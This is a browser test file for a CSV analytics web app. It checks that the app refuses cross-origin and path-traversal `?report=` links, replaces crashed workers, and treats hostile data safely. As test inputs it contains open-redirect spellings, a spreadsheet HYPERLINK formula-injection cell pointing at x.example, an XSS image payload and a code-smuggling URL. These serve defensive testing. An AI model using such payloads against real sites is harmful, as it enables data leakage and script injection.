// Hostile links and a crashing engine: `?report=` spellings that browsers
// turn into another origin are refused before any request leaves the site,
// and a worker that dies is replaced with a clear message.
import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import http from 'node:http';
import fs from 'node:fs';
import path from 'node:path';
import { serve, launch, cspViolations, tempDir, dist } from './harness.mjs';

let server;
let evil;
let evilHits = [];
let browser;

before(async () => {
  server = await serve();
  // Another origin serving a plausible report: it must never be asked.
  evil = http.createServer((req, res) => {
    evilHits.push(req.url);
    res.writeHead(200, { 'content-type': 'application/json', 'access-control-allow-origin': '*' });
    res.end(JSON.stringify({ summary: { revenue: 999999 } }));
  });
  await new Promise((r) => evil.listen(0, '127.0.0.1', r));
  browser = await launch();
});

after(async () => {
  await browser?.context.close();
  await server?.close();
  await new Promise((r) => evil?.close(r));
});

test('?report= refuses every spelling of another origin and sends no request', async () => {
  const { page, errors } = browser;
  const host = `127.0.0.1:${evil.address().port}`;
  const alias = `localhost:${evil.address().port}`;
  const catalogue = [
    `//${host}/x/`, // protocol-relative
    `/\\${host}/x/`, // slash-backslash
    `\\\\${host}/x/`, // two backslashes
    `/\t/${host}/x/`, // a tab after the first slash (%09)
    `\t//${host}/x/`, // a leading tab
    `/\n/${host}/x/`, // a newline (%0A)
    `/\r/${alias}/x/`, // a carriage return, other host name
    ` //${host}/x/`, // a leading space
    `http://${host}/x/`,
    `HTTP://${host}/x/`, // scheme in upper case
    `hTtPs://${alias}/x/`, // scheme in mixed case
    `http:\\\\${host}\\x\\`, // scheme with backslashes
    `ftp://${host}/x/`,
    `data:application/json,{"summary":{"revenue":1}}`,
    'javascript:alert(1)//',
    `blob:http://${host}/x`,
    'reports/../../x/', // climbs out of reports/
    'reports/%2e%2e/%2e%2e/x/', // encoded dots
    'reports/%2E%2E%2F%2E%2E%2Fx/', // encoded dots and slashes
    'reports/x/%00/', // an encoded NUL
    '/\\/x/',
    `reports/x/?u=//${host}`, // a query riding along
    `reports/x/#//${host}`, // a fragment riding along
    'reports/', // the folder itself is not a bundle
    `//user:pass@${host}/x/`, // credentials
  ];
  const requests = [];
  page.on('request', (r) => requests.push(r.url()));
  for (const spelling of catalogue) {
    await page.goto(`${server.url}index.html?report=${encodeURIComponent(spelling)}`);
    await page.locator('main[data-state=error]').waitFor({ timeout: 20000 });
    const message = await page.locator('.error-panel').textContent();
    assert.equal(message, 'The published report could not be opened: the link does not name a report folder on this site: only folders under reports/ here can be opened.', `refused: ${JSON.stringify(spelling)}`);
    assert.ok(!(await page.locator('main').textContent()).includes(host), 'the link\'s text is not repeated on the page');
    assert.equal(await page.locator('[data-download]').count(), 0, 'no table links');
  }
  const foreign = requests.filter((u) => !u.startsWith(server.url));
  assert.deepEqual(foreign, [], 'every request stayed on the site');
  assert.ok(!requests.some((u) => u.includes('report.json')), 'no report.json was even asked for');
  assert.deepEqual(evilHits, [], 'the other origin was never asked');
  assert.deepEqual(await cspViolations(page), []);
  assert.deepEqual(errors, []);
});

test('a crashed worker is replaced and the page says what happened', async () => {
  const { page } = browser;
  await page.goto(server.url);
  await page.locator('main[data-engine=warm]').waitFor({ timeout: 30000 });
  const workers = page.workers();
  const cores = await page.evaluate(() => navigator.hardwareConcurrency);
  assert.equal(workers.length, Math.min(cores, 9), 'the main worker and a helper per further core');
  // An uncaught error inside the worker, as a panic or running out of
  // memory would raise.
  await workers[0].evaluate(() => setTimeout(() => { throw new Error('simulated crash'); }, 0));
  await page.locator('main[data-state=error]').waitFor({ timeout: 20000 });
  assert.match(await page.locator('.error-panel').textContent(), /^The analysis stopped unexpectedly \(.*simulated crash\)\. The engine has been restarted: try again, or remove the file that caused it\.$/);
  // The new worker answers: the sample report builds.
  await page.locator('main[data-engine=warm]').waitFor({ timeout: 30000 });
  await page.getByRole('button', { name: 'Try with sample data' }).click();
  await page.locator('main[data-state=ready]').waitFor({ timeout: 60000 });
  assert.ok(page.workers().length >= 1);
});

test('a helper worker that crashes mid-batch stops the batch with a message, and the next drop works', async () => {
  const { page } = browser;
  await page.goto(server.url);
  await page.locator('main[data-engine=warm]').waitFor({ timeout: 30000 });
  const workers = page.workers();
  if (workers.length < 2) return; // one core: no helpers
  // The last helper dies as it is asked to read (as running out of memory
  // would kill it).
  await workers[workers.length - 1].evaluate(() => {
    self.addEventListener('message', () => setTimeout(() => { throw new Error('helper died'); }, 0));
  });
  const day = (d) => ({ name: `events_2025030${d}.csv`, mimeType: 'text/csv', buffer: Buffer.from(
    `client_id,page_url,referrer,timestamp,event_name,event_data,user_agent\nc${d},https://shop.example/,,2025-03-0${d}T10:00:00Z,page_viewed,,"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36"\n`) });
  await page.locator('input[type=file][multiple]').setInputFiles([1, 2, 3, 4].map(day));
  await page.locator('main[data-state=error]').waitFor({ timeout: 20000 });
  assert.match(await page.locator('.error-panel').textContent(), /helper died/);
  await page.locator('main[data-engine=warm]').waitFor({ timeout: 30000 });
  await page.locator('input[type=file][multiple]').setInputFiles([1, 2, 3, 4].map(day));
  await page.locator('main[data-state=ready]').waitFor({ timeout: 30000 });
  assert.equal(await page.locator('[data-kpi=visitors]').getAttribute('data-value'), '4');
});

test('hostile cells: formulas are text in downloads, markup is text on the page, absurd orders are set aside', async () => {
  const { page, errors } = browser;
  const dir = tempDir('puffy-hostile-');
  const ua = '"Mozilla/5.0 (X11; Linux x86_64) Chrome/120.0"';
  const order = (client, ts, data) => `${client},https://checkout.puffy.com/thank-you,,${ts},checkout_completed,"${data.replaceAll('"', '""')}",${ua}`;
  const lines = [
    'client_id,page_url,referrer,timestamp,event_name,event_data,user_agent',
    `"=HYPERLINK(""http://x.example/?""&A1,""click"")",https://puffy.com/,=1+2,2025-02-23T10:00:00.000Z,page_viewed,,${ua}`,
    `<img src=x onerror=alert(1)>,https://puffy.com/,,2025-02-23T10:00:01.000Z,page_viewed,,${ua}`,
    order('buyer-1', '2025-02-23T10:05:00.000Z', '{"transaction_id":"T1","revenue":500}'),
    order('buyer-2', '2025-02-23T10:06:00.000Z', '{"transaction_id":"T2","revenue":1500}'),
    order('buyer-3', '2025-02-23T10:07:00.000Z', '{"transaction_id":"T3","revenue":9e18}'),
  ];
  const csvPath = path.join(dir, 'events_20250223.csv');
  fs.writeFileSync(csvPath, lines.join('\n') + '\n');
  await page.goto(server.url);
  await page.evaluate(() => localStorage.clear());
  await page.reload();
  await page.locator('input[type=file][multiple]').setInputFiles([csvPath]);
  await page.locator('main[data-state=ready]').waitFor({ timeout: 30000 });
  const revenue = async () => Number(await page.locator('[data-kpi=revenue]').getAttribute('data-value'));
  assert.equal(await revenue(), 2000, '9e18 is set aside, 500 + 1,500 count');

  await page.locator('[data-tab=quality]').click();
  const aside = page.locator('tr[data-reason=revenue_above_cap]');
  assert.equal(await aside.count(), 1);
  assert.match(await aside.textContent(), /revenue 9000000000000000000 is above the cap of 25000\.00 per order/);
  // Markup in a cell is shown as text, never parsed.
  assert.equal(await page.locator('img[src=x]').count(), 0, 'no element made from data');

  await page.locator('[data-tab=downloads]').click();
  const [dl] = await Promise.all([page.waitForEvent('download'), page.locator('[data-download="sessions.csv"]').click()]);
  const target = path.join(dir, 'sessions.csv');
  await dl.saveAs(target);
  const sessions = fs.readFileSync(target, 'utf8');
  assert.ok(sessions.includes(`"'=HYPERLINK(""http://x.example/?""&A1,""click"")"`), 'the formula client id is text');

  // A lower cap re-reads the file: the 1,500 order is set aside too.
  await page.locator('[data-tab=settings]').click();
  await page.locator('[data-setting=max_order_revenue]').fill('1000');
  await page.locator('[data-setting=max_order_revenue]').dispatchEvent('change');
  await page.locator('[data-apply-settings]').click();
  await page.locator('[data-tab=overview]').click();
  await page.waitForFunction(() => document.querySelector('[data-kpi=revenue]')?.dataset.value === '500', null, { timeout: 30000 })
    .catch(async (e) => { throw new Error(`${e.message}: state ${await page.locator('main').getAttribute('data-state')}, error ${await page.locator('.error-panel').textContent().catch(() => 'none')}, kpi ${await page.locator('[data-kpi=revenue]').getAttribute('data-value').catch(() => '?')}`); });
  assert.equal(await revenue(), 500);
  assert.deepEqual(await cspViolations(page), []);
  assert.deepEqual(errors, []);
});

test('a page address crafted as code cannot run in the worker loader', async () => {
  const { page, errors } = browser;
  // A host that serves the app for any path (a common single-page fallback):
  // every request is answered with the dist file of the same base name.
  const fallback = http.createServer((req, res) => {
    const base = decodeURIComponent(new URL(req.url, 'http://x').pathname).split('/').pop() || 'index.html';
    const file = path.join(dist, base);
    const body = fs.existsSync(file) ? fs.readFileSync(file) : fs.readFileSync(path.join(dist, 'index.html'));
    const type = base.endsWith('.wasm') ? 'application/wasm' : base.endsWith('.js') ? 'text/javascript' : base.endsWith('.css') ? 'text/css' : 'text/html';
    res.writeHead(200, { 'content-type': type });
    res.end(body);
  });
  await new Promise((r) => fallback.listen(0, '127.0.0.1', r));
  try {
    const url = `http://127.0.0.1:${fallback.address().port}/a'+(self.__pwned=1)+'/index.html`;
    await page.goto(url);
    await page.locator('main[data-engine=warm]').waitFor({ timeout: 30000 });
    const worker = page.workers()[0];
    assert.equal(await worker.evaluate(() => typeof self.__pwned), 'undefined', 'the address stayed text');
    assert.deepEqual(errors, []);
  } finally {
    await new Promise((r) => fallback.close(r));
  }
});
